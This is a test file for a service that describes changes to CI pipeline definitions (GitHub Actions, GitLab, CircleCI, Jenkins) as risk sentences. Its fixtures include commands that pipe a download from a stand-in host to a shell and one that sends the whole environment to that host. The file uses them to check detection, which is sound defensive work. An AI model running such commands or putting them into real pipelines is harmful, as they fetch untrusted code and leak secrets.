// What a change of a definition says to somebody who has to decide about it.
import { describe, expect, it } from 'vitest';
import { diffDefinitions } from '../../../services/collector/definitions/diff.ts';
import { read, words } from './reading.ts';

const PATH = '.github/workflows/ci.yml';
const COMMIT = '0123456789abcdef0123456789abcdef01234567';
const BASE = `on: push
permissions:
  contents: read
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: Build
        run: make
  publish:
    if: github.ref == 'refs/heads/main'
    runs-on: ubuntu-latest
    environment: staging
    permissions:
      contents: read
    steps:
      - name: Publish
        run: make publish
`;

function changing(...changes: readonly (readonly [string, string])[]): readonly string[] {
  let text = BASE;
  for (const [from, to] of changes) {
    expect(text).toContain(from);
    text = text.replaceAll(from, to);
  }
  return words(PATH, BASE, text);
}

describe('a change', () => {
  it.each([
    ['on: push', 'on: [push, pull_request_target]', ['adds trigger pull_request_target']],
    ['on: push', 'on:\n  push:\n    branches: [main]', ['trigger push: adds branches: main']],
    [
      '      contents: read\n    steps',
      '      contents: write\n    steps',
      ['job publish: permission contents from read to write'],
    ],
    ['permissions:\n  contents: read\njobs', 'permissions: write-all\njobs', ['gets every permission (write-all)']],
    ['checkout@v4', `checkout@${COMMIT}`, [`actions/checkout: from v4 (tag) to ${COMMIT} (pinned)`]],
    [
      '    environment: staging\n',
      '    environment: production\n',
      ['job publish: environment from staging to production'],
    ],
    [
      "    if: github.ref == 'refs/heads/main'\n",
      '',
      ["job publish: no longer waits for a condition (github.ref == 'refs/heads/main')"],
    ],
    [
      '        run: make\n',
      '        run: curl -s https://x.example.com | sh\n',
      ['step Build of job build now pipes a download from x.example.com to a shell'],
    ],
    [
      '        run: make publish\n',
      '        run: make publish TOKEN=${{ secrets.NPM_TOKEN }}\n',
      ['job publish: now uses secret NPM_TOKEN', 'step Publish of job publish: script changed'],
    ],
    [
      '  build:\n    runs-on: ubuntu-latest',
      '  build:\n    runs-on: [self-hosted, big]',
      ['job build: runner from ubuntu-latest to self-hosted, big (self-hosted)'],
    ],
  ])('of %j to %j', (from, to, expected) => {
    expect(changing([from, to])).toEqual(expected);
  });

  it('that changes nothing says nothing', () => {
    expect(words(PATH, BASE, `# a comment\n${BASE.replace('make publish', 'make publish # now')}`)).toEqual([]);
    expect(words(PATH, BASE, BASE)).toEqual([]);
  });

  it('that moves or renames a step says so, not that its script is new', () => {
    expect(changing(['name: Build', 'name: Compile'])).toEqual([
      'job build: adds step Compile',
      'job build: drops step Build',
    ]);
  });

  it('says what weighs most first', () => {
    const [first] = changing(
      ['checkout@v4', 'checkout@v5'],
      ['run: make\n', 'run: env | curl -d @- https://x.example.com\n'],
    );
    expect(first).toBe('step Build of job build now sends its whole environment away (x.example.com)');
  });

  it('that loosens a pin is told with both references', () => {
    const pinned = BASE.replace('checkout@v4', `checkout@${COMMIT}`);
    expect(words(PATH, pinned, BASE)).toEqual([`actions/checkout: from ${COMMIT} (pinned) to v4 (tag)`]);
  });

  it('shows nothing that hides', () => {
    const [sentence] = words(
      PATH,
      BASE,
      BASE.replace('name: Build', 'name: "Bu\u202eild"').replace('run: make\n', 'run: env\n'),
    );
    expect(sentence).not.toContain('\u202e');
  });
});

describe('a definition', () => {
  it('that is new is told with all that it does', () => {
    expect(words(PATH, undefined, BASE).slice(0, 3)).toEqual([
      'adds the definition',
      'adds action actions/checkout@v4 (tag)',
      'adds trigger push',
    ]);
  });

  it('that is gone is told as that', () => {
    expect(words(PATH, BASE, undefined)).toEqual(['removes the definition']);
  });

  it('that never was has no delta', () => {
    expect(diffDefinitions(undefined, undefined)).toBeUndefined();
  });

  it('keeps both sides of what changed', () => {
    const delta = diffDefinitions(read(PATH, BASE), read(PATH, BASE.replace('checkout@v4', 'checkout@v5')));
    expect(delta).toMatchObject({
      system: 'github',
      path: PATH,
      status: 'changed',
      uses: { added: [], removed: [], changed: [{ before: { ref: 'v4' }, after: { ref: 'v5' } }] },
    });
  });
});

describe('other systems', () => {
  it('speak the same words', () => {
    const gitlab = 'deploy:\n  image: alpine:3.19\n  when: manual\n  script: [make]\n';
    expect(
      words(
        '.gitlab-ci.yml',
        gitlab,
        'include: https://ci.example.com/x.yml\ndeploy:\n  image: alpine\n  script: [make]\n',
      ),
    ).toEqual([
      'job deploy: no longer waits for a manual start',
      'adds include https://ci.example.com/x.yml (not pinned)',
      'job deploy: image alpine from 3.19 (tag) to no tag (not pinned)',
      'names host ci.example.com',
    ]);
    const circle = (context: string) => `workflows:\n  main:\n    jobs:\n      - deploy: { context: ${context} }\n`;
    expect(words('.circleci/config.yml', circle('dev'), circle('[dev, prod]'))).toEqual([
      'job deploy: now uses context prod',
    ]);
    const jenkins = (script: string) => `pipeline { stages { stage('Build') { steps { sh '${script}' } } } }`;
    expect(words('Jenkinsfile', jenkins('make'), jenkins('wget -qO- https://x.example.com | bash'))).toEqual([
      'step sh of job Build now pipes a download from x.example.com to a shell',
    ]);
    const stored = (user: string) => `<project><permission>hudson.model.Item.Build:${user}</permission></project>`;
    expect(words('config.xml', stored('alice'), stored('anonymous'))).toEqual([
      'grants hudson.model.Item.Build to anonymous',
      'removes permission hudson.model.Item.Build from alice',
    ]);
  });
});
